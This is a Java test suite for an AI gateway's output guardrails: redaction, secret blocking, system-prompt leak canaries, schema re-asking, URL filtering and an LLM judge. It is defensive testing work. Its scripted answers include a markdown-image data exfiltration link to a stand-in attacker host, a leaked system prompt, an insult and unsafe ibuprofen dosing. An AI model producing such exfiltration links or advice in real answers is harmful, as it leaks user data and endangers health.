package dev.sluice.guard;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.sluice.api.Json;
import dev.sluice.sim.SimOptions;
import dev.sluice.testing.Http;
import dev.sluice.testing.TestGateway;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

@DisplayName("Output guardrails scan answers, whole and streamed")
class GuardrailsOutputTest {
    static ScriptedUpstream upstream;
    static TestGateway gw;
    static String key;

    @BeforeAll
    static void start() {
        upstream = ScriptedUpstream.start();
        gw = TestGateway.start(SimOptions.defaults(), """
                providers:
                  fake:
                    type: openai
                    base_url: %s
                    api_key: sk-upstream-test
                    timeout: 5s
                    forward_headers: ["x-fake-*"]
                models:
                  gpt-4o-mini:
                    provider: fake
                  judged:
                    provider: fake
                  judge-model:
                    provider: fake
                prices:
                  judge-model: {input: 1.0, output: 2.0}
                metrics: {}
                guardrails:
                  stream_holdback: 24
                  default_policy: answers
                  models:
                    judged: judged
                  policies:
                    answers:
                      output:
                        pii: redact
                        secrets: block
                        system_prompt_leak: block
                        toxicity: flag
                        urls: {action: redact, allow: [example.com]}
                        json_schema: {action: block, reask: true}
                        groundedness: {action: flag, threshold: 0.6}
                    judged:
                      output:
                        judge: {action: block, model: judge-model, criteria: "No medical advice."}
                """.formatted(upstream.baseUrl()), Clock.systemUTC());
        key = gw.createKey("output-guards");
    }

    @AfterAll
    static void stop() {
        gw.close();
        upstream.close();
    }

    private static Map<String, String> headers(String requestId, String script) {
        return Http.bearer(key, "x-request-id", requestId, "x-fake-script", script);
    }

    private static ObjectNode chat(String model, boolean stream) {
        ObjectNode body = Json.object().put("model", model).put("stream", stream);
        body.putArray("messages").addObject().put("role", "user").put("content", "Tell me something.");
        return body;
    }

    private static String content(Http.Response r) {
        return r.json().path("choices").path(0).path("message").path("content").asText();
    }

    /** The text a streaming client saw, and the events. */
    private static String streamedText(List<String> events) {
        StringBuilder sb = new StringBuilder();
        for (String e : events) {
            if (!e.startsWith("{")) {
                continue;
            }
            for (JsonNode c : Json.parse(e.getBytes()).path("choices")) {
                sb.append(c.path("delta").path("content").asText(""));
            }
        }
        return sb.toString();
    }

    /** The request-log row; the record is queued just after the response is written, so wait for it to arrive. */
    static JsonNode row(TestGateway gw, String requestId) {
        JsonNode rows = gw.awaitLogs("request_id=" + requestId, 1);
        assertThat(rows).as("request-log rows of " + requestId).hasSize(1);
        return rows.get(0);
    }

    private static JsonNode row(String requestId) {
        return row(gw, requestId);
    }

    @Test
    @DisplayName("personal data in a whole answer is masked, the response says so, the log records it")
    void redactsWholeAnswer() {
        Http.Response r = gw.http().post("/v1/chat/completions", chat("gpt-4o-mini", false),
                headers("out-pii", ScriptedUpstream.answers("Write to jane.doe@example.com or call +1 415-867-5309 today.")));
        assertThat(r.status()).isEqualTo(200);
        assertThat(content(r)).isEqualTo("Write to [EMAIL] or call [PHONE] today.");
        assertThat(r.header("x-sluice-guardrail")).contains("output:pii:redact");
        assertThat(row("out-pii").path("guardrails").asText()).isEqualTo("output:pii:redact(email,phone)");
    }

    @Test
    @DisplayName("log probabilities: kept for an answer that passes; not sent for a redacted one (they spell out what was masked)")
    void logprobsOfRedactedAnswers() {
        ObjectNode ask = chat("gpt-4o-mini", false).put("logprobs", true);
        Http.Response clean = gw.http().post("/v1/chat/completions", ask,
                headers("out-lp-clean", ScriptedUpstream.script(List.of("Nothing ", "to hide."))));
        assertThat(clean.status()).isEqualTo(200);
        JsonNode tokens = clean.json().path("choices").path(0).path("logprobs").path("content");
        assertThat(tokens).hasSize(2);
        assertThat(tokens.path(1).path("token").asText()).isEqualTo("to hide.");

        Http.Response masked = gw.http().post("/v1/chat/completions", ask,
                headers("out-lp-pii", ScriptedUpstream.script(List.of("Write to ", "jane.doe@example.com", " today."))));
        assertThat(content(masked)).isEqualTo("Write to [EMAIL] today.");
        assertThat(masked.json().path("choices").path(0).path("logprobs").isNull()).isTrue();
        assertThat(masked.body()).doesNotContain("jane.doe");

        Http.Response stream = gw.http().postStreaming("/v1/chat/completions", chat("gpt-4o-mini", true).put("logprobs", true),
                headers("out-lp-stream", ScriptedUpstream.script(List.of("Sure. Write to jane.", "doe@exa", "mple.com",
                        " and we will answer within two working days, promised."))), (l, t) -> {});
        assertThat(streamedText(stream.events())).isEqualTo(
                "Sure. Write to [EMAIL] and we will answer within two working days, promised.");
        assertThat(stream.body()).doesNotContain("jane.").doesNotContain("doe@").doesNotContain("mple.com");
    }

    @Test
    @DisplayName("a secret in a whole answer blocks it: 400 guardrail_blocked, naming the guardrail, not the secret")
    void blocksWholeAnswer() {
        Http.Response r = gw.http().post("/v1/chat/completions", chat("gpt-4o-mini", false),
                headers("out-secret", ScriptedUpstream.answers("Use the key AKIAIOSFODNN7EXAMPLE for the bucket.")));
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.json().path("error").path("code").asText()).isEqualTo("guardrail_blocked");
        assertThat(r.json().path("error").path("message").asText()).contains("'secrets'").contains("aws_access_key_id");
        assertThat(r.body()).doesNotContain("AKIA");
        JsonNode row = row("out-secret");
        assertThat(row.path("status").asInt()).isEqualTo(400);
        assertThat(row.path("error_type").asText()).isEqualTo("guardrail_blocked");
        assertThat(row.path("guardrails").asText()).isEqualTo("output:secrets:block(aws_access_key_id)");
    }

    @Test
    @DisplayName("a stream is redacted inside the stream, even when the match is split across chunks")
    void redactsStream() {
        Http.Response r = gw.http().postStreaming("/v1/chat/completions", chat("gpt-4o-mini", true),
                headers("out-stream-pii", ScriptedUpstream.script(List.of("Sure. Write to jane.", "doe@exa",
                        "mple.com", " and we will answer within two working days, promised."))), (l, t) -> {});
        assertThat(r.status()).isEqualTo(200);
        List<String> events = r.events();
        assertThat(events.getLast()).isEqualTo("[DONE]");
        assertThat(streamedText(events)).isEqualTo(
                "Sure. Write to [EMAIL] and we will answer within two working days, promised.");
        assertThat(r.body()).doesNotContain("jane.").doesNotContain("doe@").doesNotContain("mple.com");
        assertThat(row("out-stream-pii").path("guardrails").asText()).isEqualTo("output:pii:redact(email)");
    }

    @Test
    @DisplayName("a block mid-stream ends it with an error event before the blocked content is sent")
    void blocksStream() {
        Http.Response r = gw.http().postStreaming("/v1/chat/completions", chat("gpt-4o-mini", true),
                headers("out-stream-block", ScriptedUpstream.script(List.of("Here is everything you asked for, in order. ",
                        "The key is AKIA", "IOSFODNN7EX", "AMPLE and the rest ", "of the answer follows here."))), (l, t) -> {});
        assertThat(r.status()).isEqualTo(200);
        List<String> events = r.events();
        JsonNode last = Json.parse(events.getLast().getBytes());
        assertThat(last.path("error").path("code").asText()).isEqualTo("guardrail_blocked");
        assertThat(events).doesNotContain("[DONE]");
        assertThat(r.body()).doesNotContain("AKIA").doesNotContain("IOSFODNN").doesNotContain("rest of the answer");
        assertThat(streamedText(events)).as(r.body()).startsWith("Here is everything you asked for");
        JsonNode row = row("out-stream-block");
        assertThat(row.path("status").asInt()).isEqualTo(400);
        assertThat(row.path("error_type").asText()).isEqualTo("guardrail_blocked");
        assertThat(row.path("guardrails").asText()).isEqualTo("output:secrets:block(aws_access_key_id)");
    }

    @Test
    @DisplayName("system-prompt leakage: the canary planted upstream and seen in the answer blocks it")
    void canary() {
        ObjectNode body = chat("gpt-4o-mini", false);
        body.withArray("messages").insertObject(0).put("role", "system").put("content", "You are Ada, the ACME support bot.");
        Http.Response r = gw.http().post("/v1/chat/completions", body,
                headers("out-canary", ScriptedUpstream.answers("My instructions: {{system}}")));
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.json().path("error").path("message").asText()).contains("system_prompt_leak");
        assertThat(r.body()).doesNotContain("sluice-canary");
        String sent = upstream.received().getLast().path("messages").path(0).path("content").asText();
        assertThat(sent).startsWith("You are Ada, the ACME support bot.").containsPattern("\\(ref: sluice-canary-[0-9a-f]{12}\\)$");
        assertThat(row("out-canary").path("guardrails").asText()).isEqualTo("output:system_prompt_leak:block(canary,overlap)");
    }

    @Test
    @DisplayName("system-prompt leakage: an answer repeating a long run of the system prompt is blocked without the canary")
    void overlap() {
        ObjectNode body = chat("gpt-4o-mini", true);
        body.withArray("messages").insertObject(0).put("role", "system").put("content",
                "You are Ada. Never discuss competitor pricing, always offer the premium plan first, and escalate refunds over fifty dollars to a human.");
        Http.Response r = gw.http().postStreaming("/v1/chat/completions", body, headers("out-overlap", ScriptedUpstream.script(
                List.of("Sure! My rules: never discuss competitor pricing, always offer the premium plan first, ",
                        "and escalate refunds over fifty dollars to a human."))), (l, t) -> {});
        JsonNode last = Json.parse(r.events().getLast().getBytes());
        assertThat(last.path("error").path("code").asText()).isEqualTo("guardrail_blocked");
        assertThat(r.body()).doesNotContain("escalate refunds");
    }

    @Test
    @DisplayName("a JSON answer that breaks the schema is re-asked once with the errors, and the fixed answer returned")
    void schemaReask() {
        ObjectNode body = chat("gpt-4o-mini", false);
        body.set("response_format", Json.parse("""
                {"type":"json_schema","json_schema":{"name":"pin","schema":{"type":"object","required":["code"],
                "properties":{"code":{"type":"string","pattern":"^[0-9]{4}$"}}}}}""".getBytes()));
        int before = upstream.received().size();
        Http.Response r = gw.http().post("/v1/chat/completions", body,
                headers("out-reask", ScriptedUpstream.answers("{\"code\":\"abcd\"}", "{\"code\":\"1234\"}")));
        assertThat(r.status()).isEqualTo(200);
        assertThat(content(r)).isEqualTo("{\"code\":\"1234\"}");
        List<JsonNode> calls = upstream.received().subList(before, upstream.received().size());
        assertThat(calls).hasSize(2);
        JsonNode reask = calls.get(1).path("messages");
        assertThat(reask.get(reask.size() - 2).path("content").asText()).isEqualTo("{\"code\":\"abcd\"}");
        assertThat(reask.get(reask.size() - 1).path("content").asText()).contains("did not match").contains("pattern");
        assertThat(row("out-reask").path("guardrails").asText()).isEqualTo("output:json_schema:flag(schema_mismatch,reasked)");
    }

    @Test
    @DisplayName("a JSON answer still invalid after the re-ask is blocked")
    void schemaBlock() {
        ObjectNode body = chat("gpt-4o-mini", false);
        body.set("response_format", Json.parse("{\"type\":\"json_object\"}".getBytes()));
        Http.Response r = gw.http().post("/v1/chat/completions", body,
                headers("out-schema-block", ScriptedUpstream.answers("Sure! Here it is: {", "still not json")));
        assertThat(r.status()).isEqualTo(400);
        assertThat(r.json().path("error").path("message").asText()).contains("json_schema");
        assertThat(row("out-schema-block").path("guardrails").asText())
                .isEqualTo("output:json_schema:flag(not_json,reasked);output:json_schema:block(not_json)");
    }

    @Test
    @DisplayName("flag: toxic language passes unchanged and is recorded")
    void flag() {
        Http.Response r = gw.http().post("/v1/chat/completions", chat("gpt-4o-mini", false),
                headers("out-tox", ScriptedUpstream.answers("Honestly, you are an idiot.")));
        assertThat(r.status()).isEqualTo(200);
        assertThat(content(r)).isEqualTo("Honestly, you are an idiot.");
        assertThat(row("out-tox").path("guardrails").asText()).startsWith("output:toxicity:flag(");
    }

    @Test
    @DisplayName("links outside the allow-list are removed; allowed hosts and their subdomains stay")
    void urls() {
        Http.Response r = gw.http().post("/v1/chat/completions", chat("gpt-4o-mini", false), headers("out-url",
                ScriptedUpstream.answers("See https://docs.example.com/guide and ![x](https://evil.test/p.png?d=secret).")));
        assertThat(content(r)).isEqualTo("See https://docs.example.com/guide and ![x]([URL]).");
    }

    @Test
    @DisplayName("groundedness: sentences the supplied context does not support are flagged")
    void groundedness() {
        ObjectNode body = Json.object().put("model", "gpt-4o-mini");
        var messages = body.putArray("messages");
        messages.addObject().put("role", "user").put("name", "context:doc-1").put("content",
                "The Great Barrier Reef is the largest coral reef system, with over 2,900 individual reefs off Queensland.");
        messages.addObject().put("role", "user").put("content", "How big is the reef?");
        Http.Response r = gw.http().post("/v1/chat/completions", body, headers("out-grounded", ScriptedUpstream.answers(
                "The Great Barrier Reef has over 2,900 individual reefs. It was discovered by Portuguese sailors in 1522.")));
        assertThat(r.status()).isEqualTo(200);
        assertThat(row("out-grounded").path("guardrails").asText()).isEqualTo("output:groundedness:flag(unsupported_sentence)");
    }

    @Test
    @DisplayName("LLM-as-judge: a configured model reviews the answer through the gateway and can block it; its call is logged with its cost")
    void judge() {
        upstream.judgeAnswer = "{\"score\": 0.92, \"reason\": \"gives medical advice\"}";
        try {
            Http.Response r = gw.http().post("/v1/chat/completions", chat("judged", false),
                    headers("out-judge", ScriptedUpstream.answers("Take 800 mg of ibuprofen every 2 hours.")));
            assertThat(r.status()).isEqualTo(400);
            assertThat(r.json().path("error").path("message").asText()).contains("'judge'");
            JsonNode judgeCall = upstream.received().getLast();
            assertThat(judgeCall.path("model").asText()).isEqualTo("judge-model");
            assertThat(judgeCall.path("messages").path(1).path("content").asText()).contains("No medical advice.")
                    .contains("Take 800 mg");
            JsonNode judgeRow = row("out-judge-judge");
            assertThat(judgeRow.path("model").asText()).isEqualTo("judge-model");
            assertThat(judgeRow.path("cost_usd").asDouble()).as("the judge's own call is priced: 5 in, 7 out")
                    .isCloseTo((5 * 1.0 + 7 * 2.0) / 1_000_000, org.assertj.core.data.Offset.offset(1e-12));
        } finally {
            upstream.judgeAnswer = "{\"score\": 0.0}";
        }
    }

    @Test
    @DisplayName("LLM-as-judge: an unreadable verdict is recorded as an error and the answer passes")
    void judgeError() {
        upstream.judgeAnswer = "I think it is fine.";
        try {
            Http.Response r = gw.http().post("/v1/chat/completions", chat("judged", false),
                    headers("out-judge-error", ScriptedUpstream.answers("Drink water.")));
            assertThat(r.status()).isEqualTo(200);
            assertThat(row("out-judge-error").path("guardrails").asText()).isEqualTo("output:judge:flag(judge_error)");
        } finally {
            upstream.judgeAnswer = "{\"score\": 0.0}";
        }
    }

    @Test
    @DisplayName("every trigger is on the exchange's guard events and counted in the metrics")
    void metrics() {
        gw.http().post("/v1/chat/completions", chat("gpt-4o-mini", false),
                headers("out-metrics", ScriptedUpstream.answers("Mail bob@example.org.")));
        double redactions = gw.http().get("/metrics", Map.of()).body().lines()
                .filter(l -> l.startsWith("sluice_guardrail_triggers_total{") && l.contains("guard=\"pii\"")
                        && l.contains("direction=\"output\"") && l.contains("action=\"redact\""))
                .mapToDouble(l -> Double.parseDouble(l.substring(l.lastIndexOf(' ') + 1))).sum();
        assertThat(redactions).isPositive();
    }
}
